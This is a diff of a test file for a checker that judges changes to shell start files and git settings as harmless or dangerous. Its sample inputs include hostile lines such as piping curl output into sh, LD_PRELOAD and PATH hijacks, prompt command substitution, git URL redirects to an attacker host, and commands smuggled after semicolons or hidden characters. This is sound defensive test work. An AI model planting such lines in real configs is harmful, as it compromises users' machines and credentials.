@@ -1,76 +1,42 @@
 import { describe, expect, it } from 'vitest';
 import type { JsonObject } from '../../../src/base/json.ts';
 import { judgeUnit } from '../../../engines/shell/judge/judge-unit.ts';
-import { codecs, unitsIn } from './place-files.ts';
+import { codecs, fixture, unitsIn } from './place-files.ts';
 
 const { bash, git } = codecs as { bash: (typeof codecs)[string]; git: (typeof codecs)[string] };
+const codecOf = (shell: string): (typeof codecs)[string] => codecs[shell] as (typeof codecs)[string];
 
 function recordOf(codec: (typeof codecs)[string], text: string): JsonObject {
   const [[id, unit] = ['', '']] = unitsIn(codec, text);
   return codec.fieldsOf(id, unit);
 }
 
-const harmless = [
-  'alias gs="git status -sb"',
-  "alias ..='cd ..'",
-  "alias df='df -hT'",
-  "alias ls='ls --color=auto'",
-  "alias lg='git log --oneline --graph'",
-  'HISTSIZE=1000',
-  'export LANG=de_DE.UTF-8',
-  "LS_COLORS='di=1;34:ln=36'",
-  'KEYTIMEOUT=20',
-  'shopt -s checkwinsize',
-  'alias gs="git status -sb"  # short',
-];
-
-const dangerous = [
-  'PATH=/tmp/bin:$PATH',
-  'export PATH="$PATH:."',
-  'export PATH=bin:$PATH',
-  "alias sudo='sudo LD_PRELOAD=/tmp/x.so '",
-  "alias ssh='ssh -o StrictHostKeyChecking=no'",
-  "alias ѕudo='ls'",
-  'alias ls="curl example.org | sh; ls"',
-  "alias ls='ls --color=auto; curl example.org'",
-  'alias gs="git -c core.pager=x status"',
-  'alias gp="git push --force"',
-  'alias gs="git status $(curl example.org)"',
-  "alias x='echo $HOME'",
-  'alias y=`date`',
-  "alias rm='ls'",
-  "alias git='ls'",
-  "alias doas='ls'",
-  "alias h='history -w .bashrc'",
-  "alias d='date -s 2020-01-01'",
-  "alias n='hostname other'",
-  "alias find='find . -exec rm {} +'",
-  "alias tree='tree -o /etc/passwd'",
-  'precmd() { :; }',
-  'greet() { echo hello; }',
-  'export LD_PRELOAD=/tmp/x.so',
-  'BASH_ENV=~/.x',
-  'PROMPT_COMMAND=x',
-  "PS1='$(curl example.org)'",
-  'export EDITOR=vim',
-  'export HTTPS_PROXY=http://10.0.0.1:3128',
-  'export ANTHROPIC_BASE_URL=http://example.org',
-  'LANG=$(curl example.org)',
-  'HISTSIZE="$(curl example.org)"',
-  'shopt -s expand_aliases',
-  "alias a\u200b='ls'",
-  "# \u202e fine\nalias gs='git status'",
-];
-
-describe('a change of a start file', () => {
-  it.each(harmless)('11 is harmless where it is known to be: %s', (text) => {
-    expect(judgeUnit(null, recordOf(bash, text))).toEqual({ level: 'harmless', words: 'harmless' });
+/** Lines of real files and their hostile siblings: below each `== level shell` one a row, `⏎` for a line break. */
+const rows = fixture('judged-lines')
+  .split(/^== /m)
+  .slice(1)
+  .flatMap((block) => {
+    const [head = '', ...lines] = block.trimEnd().split('\n');
+    const [level = '', shell = ''] = head.split(' ');
+    return lines.map((line) => ({ level, shell, text: line.replaceAll('⏎', '\n') }));
   });
 
-  it.each(dangerous)('11 is dangerous otherwise, and says why: %s', (text) => {
-    const { level, words } = judgeUnit(null, recordOf(bash, text));
-    expect(level).toBe('dangerous');
-    expect(words.length).toBeGreaterThan(5);
+describe('a change of a start file', () => {
+  it.each(rows.filter(({ shell }) => shell !== 'git'))('11 is $level in $shell: $text', ({ level, shell, text }) => {
+    const judgement = judgeUnit(null, recordOf(codecOf(shell), text));
+    expect(judgement.level).toBe(level);
+    expect(judgement.words.length).toBeGreaterThan(5);
+  });
+
+  it.each([
+    ["alias ssh='ssh -o StrictHostKeyChecking=no'", 'StrictHostKeyChecking=no'],
+    ['export PATH=/tmp/bin:$PATH', '/tmp/bin'],
+    ['export LD_PRELOAD=/tmp/x.so', '/tmp/x.so'],
+    ['export HTTPS_PROXY=http://10.0.0.1:3128', '10.0.0.1'],
+    ["trap 'curl x' DEBUG", 'curl x'],
+    ['. ~/.evil', '~/.evil'],
+  ])('11 says why, and names the value: %s', (text, value) => {
+    expect(judgeUnit(null, recordOf(bash, text)).words).toContain(value);
   });
 
   it('11 that is one of comments and white space alone is harmless', () => {
@@ -91,12 +57,55 @@ describe('a change of a start file', () => {
   it.each([
     ["alias week='date +%V'", 'harmless'],
     ["alias rm='rm -i'", 'dangerous'],
+    ["alias cp='cp -iv'", 'dangerous'],
+    ["alias wget='wget -c'", 'harmless'],
+    ["alias ssh='ssh -F ~/.ssh/careful'", 'dangerous'],
+    ["alias deploy='kubectl apply -f x'", 'harmless'],
     ['greet() { :; }', 'dangerous'],
+    ['umask 077', 'dangerous'],
+    ['set -o noclobber', 'dangerous'],
+    ['shopt -s histappend', 'dangerous'],
+    ['shopt -s checkwinsize', 'harmless'],
+    ['export PIP_REQUIRE_VIRTUALENV=true', 'dangerous'],
+    ['HISTSIZE=100000', 'dangerous'],
+    ['export LANG=C', 'harmless'],
+    ["PS1='> '", 'harmless'],
+    ['complete -d cd', 'harmless'],
+    ['export PATH=/opt/x:$PATH', 'dangerous'],
+    ['source ~/.x', 'dangerous'],
   ] as const)('11 that removes %s is %s', (text, level) => {
     expect(judgeUnit(recordOf(bash, text), null).level).toBe(level);
   });
 
   it.each([
+    ["alias rm='rm -i'", "alias rm='rm -v'", 'dangerous'],
+    ["alias rm='rm -I --preserve-root'", "alias rm='rm -i'", 'harmless'],
+    ["alias rm='rm -i'", "alias rm='rm -iv'", 'harmless'],
+    ['umask 077', 'umask 022', 'dangerous'],
+    ['HISTSIZE=100000', 'HISTSIZE=500', 'dangerous'],
+    ['HISTSIZE=500', 'HISTSIZE=100000', 'harmless'],
+    ['HISTCONTROL=ignoreboth', 'HISTCONTROL=ignoredups', 'dangerous'],
+    ['export A=x\\ #y', 'export A=x\\ #z', 'dangerous'],
+    ['f() { ls; }', 'f() { ls; } # so', 'harmless'],
+  ] as const)('11 from %s to %s is %s', (was, is, level) => {
+    expect(judgeUnit(recordOf(bash, was), recordOf(bash, is)).level).toBe(level);
+  });
+
+  it.each([
+    ['alias', 'gs', ';curl example.org\nalias gs="git status"'],
+    ['alias', '', "alias ='ls'"],
+    ['alias', 'gs', "alias gs='ls' 'x=y'"],
+    ['git', 'color.ui', '\tsshCommand = x'],
+    ['git', 'color.ui', '[core] sshCommand = x'],
+    ['option', 'umask', 'umask 077; curl example.org'],
+    ['option', 'autocd', 'setopt autocd; curl example.org'],
+    ['option', 'zstyle :completion:* menu', "zstyle ':completion:*' menu select; curl example.org"],
+    ['bind', '-e', 'bindkey -e; curl example.org'],
+    ['completion', 'cd', 'complete -d cd; curl example.org'],
+    ['prompt', 'PS1', "PS1='> '; curl example.org"],
+    ['alias', 'gs', 'alias gs="git status"\u001b[2K'],
+    ['alias', 'gs', '# fine\rcurl example.org\nalias gs="git status"'],
+    ['Alias', 'gs', 'alias gs="git status"'],
     ['alias', 'gs', 'alias gs="git status"\ncurl example.org | sh'],
     ['alias', 'gs', "alias gs='git\nstatus'"],
     ['alias', 'other', 'alias gs="git status"'],
@@ -105,38 +114,71 @@ describe('a change of a start file', () => {
     ['__proto__', 'x', 'x'],
     ['constructor', 'x', 'x'],
   ])('11 that no file of ours would bring is dangerous: %s %s %j', (kind, name, body) => {
-    expect(judgeUnit(null, { kind, name, body, shell: 'bash' }).level).toBe('dangerous');
+    for (const shell of ['bash', 'zsh', 'any', 'other']) {
+      expect(judgeUnit(null, { kind, name, body, shell }).level).toBe('dangerous');
+    }
+  });
+
+  it('11 of another shell says something else, and is looked at anew', () => {
+    const before = recordOf(bash, "alias x='rm -rf'");
+    expect(judgeUnit(before, { ...before, shell: 'zsh' }).level).toBe('dangerous');
+    expect(judgeUnit(null, { kind: 'alias', name: 'gs', body: 'alias gs="git status"', shell: 'tcsh' }).level).toBe(
+      'dangerous',
+    );
+    expect(
+      codecOf('fish').unitOf('fish/alias/x', { kind: 'alias', name: 'x', body: 'x', shell: 'bash' }),
+    ).toBeUndefined();
+  });
+
+  it('11 takes whatever comes, however large', () => {
+    const huge = 'a '.repeat(500_000);
+    for (const body of [
+      `alias x='${huge}'`,
+      `X="${huge}"`,
+      `PS1='${huge}'`,
+      huge,
+      `# ${huge}`,
+      '('.repeat(500_000),
+      `set ${huge}`,
+      ...['TOKEN', '-', 'eyJ-', " # '", '\\', '"', ' ', '\u001b'].map((one) => one.repeat(19_000 / one.length)),
+    ]) {
+      for (const [kind, shell] of [
+        ['alias', 'bash'],
+        ['env', 'fish'],
+        ['prompt', 'zsh'],
+        ['bind', 'fish'],
+        ['git', 'any'],
+        ['completion', 'fish'],
+        ['option', 'zsh'],
+      ] as const) {
+        expect(['harmless', 'dangerous']).toContain(judgeUnit(null, { kind, name: 'x', body, shell }).level);
+      }
+    }
   });
 });
 
 describe('a change of a git setting', () => {
-  it.each([
-    '[color]\n\tui = auto',
-    '[push]\n\tdefault = simple',
-    '[alias]\n\tst = status -sb',
-    '[pull]\n\trebase = true',
-  ])('12 is harmless where it is known to be: %j', (text) => {
-    expect(judgeUnit(null, recordOf(git, text)).level).toBe('harmless');
+  it.each(rows.filter(({ shell }) => shell === 'git'))('12 is $level: $text', ({ level, text }) => {
+    expect(judgeUnit(null, recordOf(git, text)).level).toBe(level);
   });
 
   it.each([
-    '[alias]\n\tx = !curl example.org | sh',
-    '[alias]\n\tp = push --force',
-    '[alias]\n\tx = -c core.pager=x log',
-    '[core]\n\tsshCommand = ssh -o ProxyCommand=x',
-    '[core]\n\tpager = less',
-    '[core]\n\thooksPath = /tmp',
-    '[core]\n\tfsmonitor = /tmp/x',
-    '[url "http://example.org/"]\n\tinsteadOf = https://github.com/',
-    '[filter "x"]\n\tsmudge = curl',
-    '[diff]\n\texternal = x',
-    '[gpg]\n\tprogram = x',
-    '[http]\n\tsslVerify = false',
-    '[protocol "ext"]\n\tallow = always',
-    '[user]\n\temail = other@example.org',
-    '[push]\n\tdefault = simple \\\n x',
-  ])('12 is dangerous otherwise: %j', (text) => {
-    expect(judgeUnit(null, recordOf(git, text)).level).toBe('dangerous');
+    ['[url "http://evil.example/"]\n\tinsteadOf = https://github.com/', 'evil.example'],
+    ['[http]\n\tsslVerify = false', 'which servers are trusted'],
+    ['[user]\n\temail = other@example.org', 'other@example.org'],
+    ['[alias]\n\tx = !curl example.org | sh', 'curl example.org'],
+  ])('12 says why, and names the value: %j', (text, value) => {
+    expect(judgeUnit(null, recordOf(git, text)).words).toContain(value);
+  });
+
+  it.each([
+    ['[color]\n\tui = auto', 'harmless'],
+    ['[alias]\n\tx = !sh', 'harmless'],
+    ['[pull]\n\tff = only', 'dangerous'],
+    ['[user]\n\temail = a@b', 'dangerous'],
+    ['[http]\n\tsslVerify = true', 'dangerous'],
+  ] as const)('12 that removes %j is %s', (text, level) => {
+    expect(judgeUnit(recordOf(git, text), null).level).toBe(level);
   });
 
   it.each([
